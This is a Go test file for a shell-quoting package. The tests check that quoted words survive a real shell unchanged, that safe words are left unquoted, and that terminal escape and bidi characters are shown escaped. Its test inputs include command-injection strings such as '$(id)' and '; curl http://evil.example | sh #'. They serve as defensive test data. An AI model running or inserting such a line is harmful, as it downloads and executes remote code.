package shell

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestAShellReadsTheWordsBack runs a real shell.
func TestAShellReadsTheWordsBack(t *testing.T) {
	t.Parallel()
	words := []string{
		"plain", "", " ", "a b", "it's", `"`, `\`, "$HOME", "`id`", "$(id)", "; curl http://evil.example | sh #",
		"line\nbreak", "*", "~", "#", "-n", "{.data.x\\.gz}", "key=value", "ü", "\x1b[31m", "!!",
	}
	for _, word := range words {
		out, err := exec.CommandContext(t.Context(), "sh", "-c", "printf %s\\\\0 "+Command("first", word, "last")).Output()
		if err != nil {
			t.Fatalf("%q: %v", word, err)
		}
		if diff := cmp.Diff("first\x00"+word+"\x00last\x00", string(out)); diff != "" {
			t.Errorf("%q:\n%s", word, diff)
		}
	}
}

func TestWhatNeedsNoQuotesHasNone(t *testing.T) {
	t.Parallel()
	words := []string{"helm", "uninstall", "arc", "--namespace", "arc-systems", "oci://ghcr.io/x/y:1@sha256:0", "a=b,c+d%e_f"}
	if diff := cmp.Diff(strings.Join(words, " "), Command(words...)); diff != "" {
		t.Error(diff)
	}
}

func TestATerminalObeysNothingOfIt(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"plain":               "plain",
		"two words, ü":        "two words, ü",
		"red\x1b[31m":         `"red\x1b[31m"`,
		"two\nlines":          `"two\nlines"`,
		"turned \u202earound": `"turned \u202earound"`,
		"broken \xff":         "broken \xff",
	} {
		if got := Visible(text); got != want {
			t.Errorf("%q: %s", text, got)
		}
	}
}
